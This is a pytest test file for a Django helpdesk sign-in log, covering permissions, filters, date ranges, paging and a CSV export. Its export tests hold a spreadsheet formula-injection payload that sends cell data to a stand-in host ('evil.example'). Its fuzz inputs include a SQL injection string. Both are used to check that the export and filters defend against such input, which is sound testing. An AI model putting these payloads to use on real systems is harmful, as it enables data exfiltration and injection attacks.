"""The sign-in log: every attempt with the policy's reason, filtered, paged and exported."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from tests.helpers import force_mfa_login, text
from vahva.audit.models import AuditEvent
from vahva.insights.export import safe_cell

pytestmark = pytest.mark.django_db

LOG = "/helpdesk/sign-ins/"
EXPORT = "/helpdesk/sign-ins/export.csv"
CAMPUS = "MFA skipped: 130.233.1.7 is in trusted network Campus"
MAIL = "MFA required: service Mail requires it always"


def _rows(response: Any) -> list[str]:
    """The log table's rows as text, tags removed, white space collapsed."""
    body = text(response)
    table = body.split("<tbody>", 1)[1].split("</tbody>", 1)[0] if "<tbody>" in body else ""
    return [
        re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", row)).strip()
        for row in table.split("</tr>")
        if "<td" in row
    ]


@pytest.fixture
def story(event: Callable[..., AuditEvent]) -> None:
    """Alice signs in from campus, then from home to Mail with a wrong code first; an
    unknown address tries a password."""
    event(
        "signin.password",
        reason=CAMPUS,
        ip="130.233.1.7",
        ago=3600,
        service="",
        require_mfa=False,
        attempt="a1",
    )
    event(
        "signin.success",
        reason=CAMPUS,
        ip="130.233.1.7",
        ago=3599,
        method="",
        amr=["pwd"],
        service="",
    )
    event("signin.password", reason=MAIL, ago=600, service="Mail", require_mfa=True, attempt="a2")
    event("signin.mfa", outcome="failure", reason="InvalidCode", ago=590, method="totp")
    event("signin.success", reason=MAIL, ago=580, method="totp", amr=["pwd", "otp"], service="Mail")
    event(
        "signin.password",
        outcome="failure",
        subject_email="",
        reason="unknown e-mail address",
        ago=60,
        email="mallory@example.org",
    )


# --- who may read it -------------------------------------------------------------------------


def test_signed_out_goes_to_sign_in_and_back(client: Client) -> None:
    response = client.get(LOG + "?outcome=ok")
    assert response.status_code == 302
    assert response["Location"] == "/signin/?next=/helpdesk/sign-ins/%3Foutcome%3Dok"


@pytest.mark.parametrize("path", [LOG, EXPORT, "/helpdesk/adoption/"])
def test_people_without_the_permission_get_403(client: Client, make_user: Any, path: str) -> None:
    force_mfa_login(client, make_user("bob@example.org", is_staff=True))
    response = client.get(path)
    assert response.status_code == 403
    assert "The helpdesk tools are for helpdesk staff only." in text(response)
    assert not AuditEvent.objects.filter(action="insights.export").exists()


def test_superusers_may_read_it(client: Client, make_user: Any) -> None:
    force_mfa_login(client, make_user("root@example.org", is_staff=True, is_superuser=True))
    assert client.get(LOG).status_code == 200


# --- what it shows ---------------------------------------------------------------------------


def test_log_lists_attempts_newest_first_with_reasons(helpdesk_client: Client, story: None) -> None:
    response = helpdesk_client.get(LOG)
    assert response.status_code == 200
    assert response["Cache-Control"].count("no-store") == 1
    rows = _rows(response)
    assert len(rows) == 6
    assert "6 events" in text(response)
    assert "mallory@example.org Unknown e-mail address" in rows[0]
    assert "alice@example.org Signed in Authenticator app code Mail" in rows[1]
    # The policy's reason and the refusal in sentences, not the log's internal words.
    assert "A second step was asked: the service Mail always requires one." in rows[1]
    assert "Second step failed Authenticator app code" in rows[2]
    assert "The code was wrong." in rows[2]
    assert "InvalidCode" not in text(response)
    assert "Password accepted" in rows[3]
    assert "Mail" in rows[3]
    assert "Signed in Password only" in rows[4]
    assert "No second step: 130.233.1.7 is in the trusted network Campus." in rows[4]
    assert "130.233.1.7" in rows[4]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("person=MALLORY", ["Unknown e-mail address"]),
        ("person=alice&outcome=failure", ["Second step failed"]),
        ("outcome=failure", ["Unknown e-mail address", "Second step failed"]),
        ("action=signin.success", ["Signed in", "Signed in"]),
        ("service=mail", ["Signed in", "Password accepted"]),
        ("reason=trusted+network", ["Signed in", "Password accepted"]),
        ("action=signin.locked", []),
    ],
)
def test_filters(helpdesk_client: Client, story: None, query: str, expected: list[str]) -> None:
    response = helpdesk_client.get(f"{LOG}?{query}")
    assert response.status_code == 200
    rows = _rows(response)
    assert [
        next(
            label
            for label in (
                "Unknown e-mail address",
                "Second step failed",
                "Signed in",
                "Password accepted",
            )
            if label in row
        )
        for row in rows
    ] == expected
    if not expected:
        assert "No sign-in attempts match these filters." in text(response)


def test_date_range_uses_local_days(
    helpdesk_client: Client, event: Callable[..., AuditEvent]
) -> None:
    # Helsinki is UTC+2 in March: 23:30 UTC on the 1st is 01:30 on the 2nd there.
    event(
        "signin.success",
        reason="late",
        at=dt.datetime(2026, 3, 1, 23, 30, tzinfo=dt.UTC),
        method="",
    )
    event(
        "signin.success",
        reason="early",
        at=dt.datetime(2026, 3, 1, 21, 30, tzinfo=dt.UTC),
        method="",
    )
    event(
        "signin.success",
        reason="last",
        at=dt.datetime(2026, 3, 2, 21, 59, tzinfo=dt.UTC),
        method="",
    )
    event(
        "signin.success", reason="next", at=dt.datetime(2026, 3, 2, 22, 0, tzinfo=dt.UTC), method=""
    )
    only_2nd = _rows(helpdesk_client.get(f"{LOG}?date_from=2026-03-02&date_to=2026-03-02"))
    assert [("late" in r, "last" in r) for r in only_2nd] == [(False, True), (True, False)]
    up_to_1st = _rows(helpdesk_client.get(f"{LOG}?date_to=2026-03-01"))
    assert len(up_to_1st) == 1
    assert "early" in up_to_1st[0]


@pytest.mark.parametrize(
    ("query", "status", "message"),
    [
        ("date_from=yesterday", 400, "Enter a date like 2026-03-02."),
        ("date_to=2026-02-30", 400, "Enter a date like 2026-03-02."),
        ("date_from=2026-03-02&date_to=2026-03-01", 400, "The end date is before the start date."),
        ("outcome=maybe", 400, "Choose a result from the list."),
        ("action=signout", 400, "Choose an event from the list."),
        ("person=" + "a" * 300, 400, "Use at most 254 characters."),
        ("page=x", 400, "The page number must be a whole number, for example 2."),
        ("page=0", 400, "The page number must be a whole number, for example 2."),
        ("page=-1", 400, "The page number must be a whole number, for example 2."),
        ("page=%D9%A3", 400, "The page number must be a whole number, for example 2."),
        ("page=7", 404, "There is no page 7: the results have 1 pages."),
        ("page=" + "9" * 5000, 404, "There is no page 999999999999: the results have 1 pages."),
    ],
)
def test_bad_filters_get_a_clear_message(
    helpdesk_client: Client, story: None, query: str, status: int, message: str
) -> None:
    response = helpdesk_client.get(f"{LOG}?{query}")
    assert response.status_code == status
    assert message in text(response)
    assert _rows(response) == []


def test_fifty_rows_a_page(helpdesk_client: Client, event: Callable[..., AuditEvent]) -> None:
    for second in range(51):
        event("signin.success", reason=f"r{second}", ago=second, method="")
    first = helpdesk_client.get(f"{LOG}?action=signin.success")
    assert len(_rows(first)) == 50
    assert "Page 1 of 2" in text(first)
    assert 'href="?action=signin.success&amp;page=2"' in text(first)
    second = helpdesk_client.get(f"{LOG}?action=signin.success&page=2")
    rows = _rows(second)
    assert len(rows) == 1
    assert "r50" in rows[0]


def test_only_sign_in_events_are_listed(
    helpdesk_client: Client, event: Callable[..., AuditEvent]
) -> None:
    event("signout")
    event("feedback.export")
    assert _rows(helpdesk_client.get(LOG)) == []


# --- the export ------------------------------------------------------------------------------


def _csv(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))


def test_export_is_the_filtered_log_as_csv(
    helpdesk_client: Client, helpdesk_user: Any, story: None
) -> None:
    response = helpdesk_client.get(f"{EXPORT}?service=Mail")
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="sign-ins-20260302-080000.csv"'
    rows = _csv(response)
    assert rows[0] == [
        "time",
        "person",
        "event",
        "outcome",
        "method",
        "service",
        "address",
        "reason",
        "user agent",
    ]
    assert rows[1:] == [
        [
            "2026-03-02T09:50:20+02:00",
            "alice@example.org",
            "Signed in",
            "ok",
            "Authenticator app code",
            "Mail",
            "198.51.100.7",
            MAIL,
            "Firefox",
        ],
        [
            "2026-03-02T09:50:00+02:00",
            "alice@example.org",
            "Password accepted",
            "ok",
            "",
            "Mail",
            "198.51.100.7",
            MAIL,
            "Firefox",
        ],
    ]
    audit = AuditEvent.objects.get(action="insights.export")
    assert audit.actor == helpdesk_user
    assert audit.data == {"filters": {"service": "Mail"}}


def test_export_defends_against_formula_injection(
    helpdesk_client: Client, event: Callable[..., AuditEvent]
) -> None:
    event(
        "signin.password",
        outcome="failure",
        subject_email="",
        reason="unknown e-mail address",
        email='=HYPERLINK("http://evil.example/?"&A1)@x',
    )
    rows = _csv(helpdesk_client.get(EXPORT))
    assert rows[1][1] == '\'=HYPERLINK("http://evil.example/?"&A1)@x'


def test_export_with_bad_filters_is_a_400(helpdesk_client: Client) -> None:
    response = helpdesk_client.get(f"{EXPORT}?date_from=yesterday")
    assert response.status_code == 400
    assert "Enter a date like 2026-03-02." in text(response)
    assert not AuditEvent.objects.filter(action="insights.export").exists()


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+358", "'+358"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (7, "7"),
    ],
)
def test_safe_cell(value: Any, cell: str) -> None:
    assert safe_cell(value) == cell


# --- random input ----------------------------------------------------------------------------

junk = st.one_of(
    st.text(max_size=300),
    st.binary(max_size=60).map(lambda b: b.decode("latin-1")),
    st.sampled_from(
        ["\x00", "2026-13-01", "9" * 5000, "0" * 4999 + "1", "١٢٣", "' OR 1=1 --", "%", "_"]
    ),
)


@hypothesis_settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    values=st.fixed_dictionaries(
        {},
        optional={
            name: junk
            for name in (
                "person",
                "outcome",
                "action",
                "service",
                "reason",
                "date_from",
                "date_to",
                "page",
            )
        },
    )
)
def test_random_filters_never_fail_the_server(
    helpdesk_client: Client, story: None, values: dict[str, str]
) -> None:
    response = helpdesk_client.get(LOG, values)
    assert response.status_code in (200, 400, 404)
    export = helpdesk_client.get(EXPORT, {k: v for k, v in values.items() if k != "page"})
    assert export.status_code in (200, 400)
    if export.status_code == 200:
        b"".join(export.streaming_content)
